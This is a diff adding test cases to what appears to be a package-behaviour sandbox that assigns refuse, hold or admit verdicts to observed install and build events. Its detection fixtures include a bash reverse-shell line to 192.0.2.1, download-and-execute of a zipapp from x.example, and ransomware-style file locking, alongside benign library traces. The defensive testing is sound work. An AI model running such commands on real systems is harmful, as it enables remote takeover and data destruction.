@@ -298,6 +298,8 @@ static const struct row programs[] = {
     { W(EXEC), PATH_SYSTEM, "/usr/bin/bash", "bash --version", 0, "WCH040 info" },
     { W(EXEC), EXEC_SELF, PY, "python -v", 0, "WCH041 medium" },
     { W(EXEC), EXEC_SELF, PY, "python -V", 0, "WCH040 info" },
+    { W(EXEC), EXEC_SELF | PATH_SITE, BIN "python3", "python3 -V", 0, "WCH040 info" },
+    { W(EXEC), PATH_HOME, HOME ".x/python3", "python3 -V", 0, "WCH041 medium" },
     { W(EXEC), PATH_SYSTEM, "/usr/bin/env", "env -0", 0, "WCH036 medium" },
     /* by what they are for */
     { W(EXEC), PATH_SYSTEM, "/usr/bin/curl", "curl -k -L -s https://x.example/y", 0,
@@ -613,6 +615,119 @@ TEST(watch_evidence_says_what_and_who)
     check_evidence(W(RENAME), PATH_HOME, HOME ".profile", "/tmp/y", 0,
                    HOME ".profile (/tmp/y); it is not there afterwards" BY);
 #undef BY
+}
+
+/* Whole watches, as they were seen or told of: the facts, and what they make of the wheel. */
+#define STORY_FACTS 8
+static const struct story {
+    const char *what;
+    enum pratique_verdict want;
+    struct row facts[STORY_FACTS];
+} stories[] = {
+    { "it fetches a zipapp and starts it detached",
+      PRATIQUE_REFUSE,
+      { { W(LOOKUP), 0, "x.example", "A", 27, "" },
+        { W(CONNECT), 0, "tcp 192.0.2.1:443", "x.example", 0, "" },
+        { W(REQUEST), REQUEST_TLS, "https://x.example/transformers.pyz", "GET", 120, "" },
+        { W(OPEN), PATH_TMP, "/tmp/transformers.pyz", "O_WRONLY|O_CREAT", 0, "" },
+        { W(EXEC), EXEC_SELF | EXEC_ARG_WRITTEN | EXEC_CANARY, PY, "python /tmp/transformers.pyz",
+          0, "" },
+        { W(CANARY), 0, "python", "https://x.example/transformers.pyz", 0, "" } } },
+    { "the same, in a module beyond the roots, and nothing is answered",
+      PRATIQUE_HOLD,
+      { { W(LOOKUP), EVENT_SUBMODULE, "x.example", "A", 27, "" },
+        { W(IMPORTED), EVENT_SUBMODULE, "some.client", "", 1, "" } } },
+    { "a start-up file for every interpreter",
+      PRATIQUE_REFUSE,
+      { { W(LEFT), PATH_SITE | LEFT_NEW, SITE "some_init.pth", "import os", 40, "" } } },
+    { "a shell that connects back",
+      PRATIQUE_REFUSE,
+      { { W(EXEC), PATH_SYSTEM, "/usr/bin/bash", "bash -c 'sh -i >& /dev/tcp/192.0.2.1/9 0>&1'", 0,
+          "" } } },
+    { "a downloader that is not there",
+      PRATIQUE_HOLD,
+      { { W(EXEC), EXEC_MISSING, BIN "curl", "curl -s http://x.example", 0, "" },
+        { W(EXEC), EXEC_MISSING, "/usr/bin/curl", "curl -s http://x.example", 0, "" } } },
+    { "files of the user are gone",
+      PRATIQUE_REFUSE,
+      { { W(LEFT), PATH_HOME | PATH_BAIT | LEFT_GONE, HOME "Documents/a.odt", "", 0, "" },
+        { W(LEFT), PATH_HOME | LEFT_NEW, HOME "Documents/a.odt.locked", "", 900, "" } } },
+    { "it sleeps an hour", PRATIQUE_HOLD, { { W(SLEEP), 0, "", "", 3600000, "" } } },
+    { "it lists the processes of others",
+      PRATIQUE_HOLD,
+      { { W(EXEC), PATH_SYSTEM, "/usr/bin/ps", "ps aux", 0, "" } } },
+    { "the watch ran out of time",
+      PRATIQUE_UNDECIDED,
+      { { W(LIMIT), 0, "time", "300 s", 0, "" } } },
+    { "urllib3 looks whether there is IPv6",
+      PRATIQUE_ADMIT,
+      { { W(BIND), NET_LOOPBACK, "tcp [::1]:0", "", 0, "" } } },
+    { "joblib makes a semaphore",
+      PRATIQUE_ADMIT,
+      { { W(OPEN), PATH_TMP, "/dev/shm/sem.0Ve1eG", "O_RDWR|O_CREAT|O_EXCL", 0, "" },
+        { W(LINK), PATH_TMP, "/dev/shm/sem.joblib-25822-wtm2x1ee", "/dev/shm/sem.0Ve1eG", 0, "" },
+        { W(UNLINK), PATH_TMP, "/dev/shm/sem.0Ve1eG", "", 0, "" },
+        { W(UNLINK), PATH_TMP, "/dev/shm/sem.joblib-25822-wtm2x1ee", "", 0, "" } } },
+    { "weasyprint looks for libraries",
+      PRATIQUE_ADMIT,
+      { { W(EXEC), PATH_SYSTEM, "/sbin/ldconfig", "/sbin/ldconfig -p", 0, "" },
+        { W(OPEN), PATH_TMP, "/tmp/tmp4j7gyswe", "O_RDWR|O_CREAT|O_EXCL", 0, "" },
+        { W(EXEC), PATH_SYSTEM | EXEC_ARG_WRITTEN, "/usr/bin/x86_64-linux-gnu-gcc-12",
+          "/usr/bin/gcc -Wl,-t -o /tmp/tmp4j7gyswe -llibgobject-2.0-0", 0, "" },
+        { W(EXEC), PATH_SYSTEM, "/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "collect2 -plugin x",
+          0, "" },
+        { W(EXEC), EXEC_MISSING, BIN "ld", "ld -t -o /dev/null -lgobject-2.0-0", 0, "" },
+        { W(EXEC), PATH_SYSTEM, "/usr/bin/x86_64-linux-gnu-ld.bfd",
+          "ld -t -o /dev/null -lgobject-2.0-0", 0, "" },
+        { W(UNLINK), PATH_TMP, "/tmp/tmp4j7gyswe", "", 0, "" } } },
+    { "matplotlib lists fonts and keeps the list",
+      PRATIQUE_ADMIT,
+      { { W(EXEC), EXEC_MISSING, BIN "fc-list", "fc-list --help", 0, "" },
+        { W(EXEC), PATH_SYSTEM, "/usr/bin/fc-list", "fc-list --help", 0, "" },
+        { W(OPEN), PATH_HOME, HOME ".cache/matplotlib/fontlist-v3.json", "O_WRONLY|O_CREAT", 0,
+          "" },
+        { W(UNLINK), PATH_HOME, HOME ".cache/matplotlib/x.matplotlib-lock", "", 0, "" },
+        { W(LEFT), PATH_HOME | LEFT_NEW, HOME ".cache/matplotlib/fontlist-v3.json", "{", 9, "" },
+        { W(LEFT), PATH_HOME | LEFT_NEW | LEFT_FOLDER, HOME ".config/matplotlib", "", 0, "" } } },
+    { "ddtrace asks its agent on this machine",
+      PRATIQUE_ADMIT,
+      { { W(CONNECT), NET_LOOPBACK, "tcp 127.0.0.1:8126", "", 0, "" },
+        { W(CONNECT), NET_UNIX, "unix /var/run/nscd/socket", "", 0, "" },
+        { W(MEMFD), 0, "OTEL_CTX", "", 0, "" } } },
+    { "a dependency is missing",
+      PRATIQUE_ADMIT,
+      { { W(IMPORTED), 0, "some", "ModuleNotFoundError: No module named 'x'", 0, "" },
+        { W(DONE), 0, "wheel", "", 0, "" } } },
+    { "a build compiles and tests what it made",
+      PRATIQUE_ADMIT,
+      { { W(DONE), 0, "command", "", 0, "" },
+        { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'cc -shared x.c -o x.so'", 0, "" },
+        { W(EXEC), PATH_HOME | EXEC_WRITTEN, HOME "project/conftest", "", 0, "" },
+        { W(LOAD), PATH_HOME | EXEC_WRITTEN, HOME "project/x.so", "", 0, "" },
+        { W(EXEC), PATH_SYSTEM, "/usr/bin/rm", "rm -rf build", 0, "" },
+        { W(LEFT), PATH_HOME | LEFT_NEW | LEFT_EXECUTABLE, HOME "project/x.so", "", 9, "" } } },
+    { "a build that fetches",
+      PRATIQUE_REFUSE,
+      { { W(DONE), 0, "command", "", 0, "" },
+        { W(REQUEST), 0, "http://x.example/y.tar.gz", "GET", 90, "" } } },
+};
+
+TEST(watch_of_whole_stories)
+{
+    for (size_t i = 0; i < sizeof stories / sizeof *stories; i++) {
+        const struct story *s = &stories[i];
+        struct court c;
+
+        court_open(&c);
+        for (size_t k = 0; k < STORY_FACTS && s->facts[k].subject; k++)
+            add(&c, s->facts[k].kind, s->facts[k].flags, s->facts[k].subject, s->facts[k].detail,
+                s->facts[k].number);
+        add_read(&c);
+        court_judge(&c);
+        CHECK(c.judged.verdict == s->want, "%s: %s, not %s", s->what,
+              pratique_verdict_name(c.judged.verdict), pratique_verdict_name(s->want));
+        court_close(&c);
+    }
 }
 
 /* Texts come from hostile processes: each kind takes any, with every flag. */
